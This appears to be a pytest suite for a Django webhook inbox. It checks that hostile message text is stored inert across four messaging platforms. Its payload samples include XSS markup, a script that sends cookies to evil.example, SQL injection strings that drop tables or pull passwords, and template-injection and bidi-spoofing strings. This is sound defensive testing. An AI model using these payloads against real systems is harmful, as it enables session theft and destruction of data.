"""Hostile webhook bodies: markup, SQL, control and bidi characters, huge and deep bodies.

Text is data: it is stored exactly as written (NUL aside, which PostgreSQL refuses), never
interpreted, and no body makes a webhook answer 500.
"""

import html
import json

import pytest
from django.conf import settings

from inbox.models import Delivery, Message
from tests.conftest import generic_message, hex_signature, make_account, post_generic
from tests.payloads import meta, post_processed, telegram, x

pytestmark = pytest.mark.django_db


def _generic(client, account, payload):
    return post_processed(
        client,
        f"/webhooks/generic/{account.slug}/",
        payload,
        HTTP_X_CAREMGR_SIGNATURE=hex_signature(account.secret, payload),
    )


PLATFORMS = {
    "generic": (
        lambda text: generic_message("m1", text),
        lambda client, account, payload: _generic(client, account, _encode(payload)),
    ),
    "meta": (
        lambda text: meta.messaging(meta.messenger_message("m_1", text)),
        meta.post_meta,
    ),
    # The X API escapes &, < and > in tweet text; the stored text is what the customer wrote.
    "x": (
        lambda text: x.tweet_events(x.tweet(text=html.escape(text, quote=False))),
        x.post_x,
    ),
    "telegram": (
        lambda text: telegram.update(message=telegram.message(text=text)),
        telegram.post_telegram,
    ),
}

HOSTILE_TEXTS = {
    "html": '<b onmouseover="alert(1)">bold</b> <img src=x onerror=alert(1)> &amp; &lt;',
    "script": "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "sql": "'; DROP TABLE inbox_message; --",
    "sql-union": "1' OR '1'='1' UNION SELECT password FROM auth_user --",
    "rtl-override": "invoice \u202egnp.exe for you \u202c ok",
    "emoji": "\U0001f621\U0001f4a5 \U0001f469\u200d\U0001f469\u200d\U0001f467 "
    "\U0001f1fa\U0001f1e6 \u2764\ufe0f",
    "zalgo": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349a",
    "controls": "tab\tnew\nline\rcarriage\x1b[31mred\x1b[0m\x7f\u2028\u2029",
    "template": "{{ request.user }} {% debug %} ${7*7} #{7*7}",
    "10kB": ("Long complaint about my order. " * 400)[:10_240],
}


def _encode(payload) -> bytes:
    return payload if isinstance(payload, bytes) else json.dumps(payload).encode()


@pytest.fixture(params=list(PLATFORMS))
def platform(request):
    name = request.param
    account = make_account(name, slug=f"{name}-brand", own_ids=["never-a-customer"])
    build, post = PLATFORMS[name]
    return account, build, post


@pytest.mark.parametrize("sample", list(HOSTILE_TEXTS))
def test_hostile_text_is_stored_exactly_as_written(client, platform, sample):
    account, build, post = platform
    text = HOSTILE_TEXTS[sample]
    answer = post(client, account, build(text))
    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/json"
    assert text.encode() not in answer.content
    assert Message.objects.get().text == text
    assert Delivery.objects.get().status == "processed"


def test_sql_in_text_leaves_the_tables_alone(client, platform):
    account, build, post = platform
    post(client, account, build("'; DROP TABLE inbox_message; --"))
    post(client, account, build("x'); DELETE FROM inbox_delivery; --"))
    assert Message.objects.count() == 1  # the second is the same message id: a duplicate
    assert Delivery.objects.count() == 2


def test_nul_bytes_in_json_strings_are_stored_without_nul(client, platform):
    account, build, post = platform
    answer = post(client, account, build("before\x00after\x00"))
    assert answer.status_code == 200
    message = Message.objects.get()
    assert "\x00" not in message.text
    assert message.text == "before\ufffdafter\ufffd"


def test_nul_bytes_in_names_and_ids_are_stored_without_nul(client):
    account = make_account("telegram", slug="bot")
    sender = {**telegram.USER, "first_name": "Eve\x00", "username": "eve\x00"}
    post = telegram.update(message=telegram.message(text="hi", sender=sender))
    assert telegram.post_telegram(client, account, post).status_code == 200
    message = Message.objects.select_related("contact").get()
    assert "\x00" not in message.author_name + message.author_handle + message.contact.handle


def test_lone_surrogate_escape_is_stored_as_a_replacement_character(client, platform):
    account, build, post = platform
    body = _encode(build("broken \udc80 pair"))
    assert b"\\udc80" in body  # valid JSON, but not encodable text
    assert post(client, account, body).status_code == 200
    assert Message.objects.get().text == "broken \ufffd pair"


def test_body_over_the_limit_answers_413_and_is_not_stored(client, account):
    limit = settings.CAREMGR_MAX_WEBHOOK_BYTES
    body = json.dumps(generic_message(text="x" * limit)).encode()
    assert len(body) > limit
    answer = post_generic(client, account, body)
    assert answer.status_code == 413
    assert answer.json()["error"] == "body too large"
    assert Delivery.objects.count() == 0


def test_body_just_under_the_limit_is_accepted(client, account):
    text = "x" * 4_900_000
    answer = _generic(client, account, json.dumps(generic_message(text=text)).encode())
    assert answer.status_code == 200
    assert len(Message.objects.get().text) == 4_900_000


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deeply_nested_body_answers_400_not_500(client, platform, depth):
    account, _build, post = platform
    body = b"[" * depth + b"]" * depth
    answer = post(client, account, body)
    assert answer.status_code == 400
    assert answer.json()["error"] == "body is nested too deeply"
    assert Delivery.objects.get().status == "failed"


def test_deep_but_readable_extra_field_does_not_stop_the_message(client):
    account = make_account("telegram", slug="bot")
    payload = telegram.update(message=telegram.message(text="hi"))
    payload["message"]["junk"] = json.loads("[" * 200 + "]" * 200)
    assert telegram.post_telegram(client, account, payload).status_code == 200
    assert Message.objects.get().text == "hi"


def test_number_too_long_for_python_answers_400(client, platform):
    account, _build, post = platform
    answer = post(client, account, b'{"update_id": ' + b"9" * 5000 + b"}")
    assert answer.status_code == 400
    assert "not valid JSON" in answer.json()["error"]


@pytest.mark.parametrize(
    ("number", "reason"),
    [
        (b"NaN", "NaN is not a number"),
        (b"-Infinity", "-Infinity is not a number"),
        (b"1e400", "1e400 is out of range"),
    ],
)
def test_numbers_json_does_not_have_answer_400(client, platform, number, reason):
    account, build, post = platform
    body = json.dumps(build("hello")).encode()
    body = body[:-1] + b', "extra": ' + number + body[-1:]
    answer = post(client, account, body)
    assert answer.status_code == 400
    assert answer.json()["error"] == f"body is not valid JSON: {reason}"
    assert Delivery.objects.get().status == "failed"


def test_timestamp_beyond_any_calendar_answers_400(client):
    account = make_account("telegram", slug="bot")
    payload = telegram.update(message=telegram.message(date=10**400))
    answer = telegram.post_telegram(client, account, payload)
    assert answer.status_code == 400
    assert "message.date" in answer.json()["error"]


@pytest.mark.parametrize("moment", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"])
def test_time_at_the_edge_of_the_calendar_answers_400(client, account, moment):
    answer = _generic(client, account, _encode(generic_message(created_at=moment)))
    assert answer.status_code == 400
    assert "out of range" in answer.json()["error"]


def test_non_ascii_signature_header_is_refused_not_crashed(client):
    account = make_account("meta", slug="brand")
    answer = meta.post_meta(
        client, account, meta.messaging(meta.messenger_message()), signature="sha256=é"
    )
    assert answer.status_code == 403


def test_handshake_challenge_is_served_as_inert_text(client):
    make_account("meta", slug="brand")
    query = {
        "hub.mode": "subscribe",
        "hub.verify_token": "vt0ken",
        "hub.challenge": "<script>alert(1)</script>",
    }
    answer = client.get("/webhooks/meta/brand/", query)
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/plain")
    assert answer["X-Content-Type-Options"] == "nosniff"
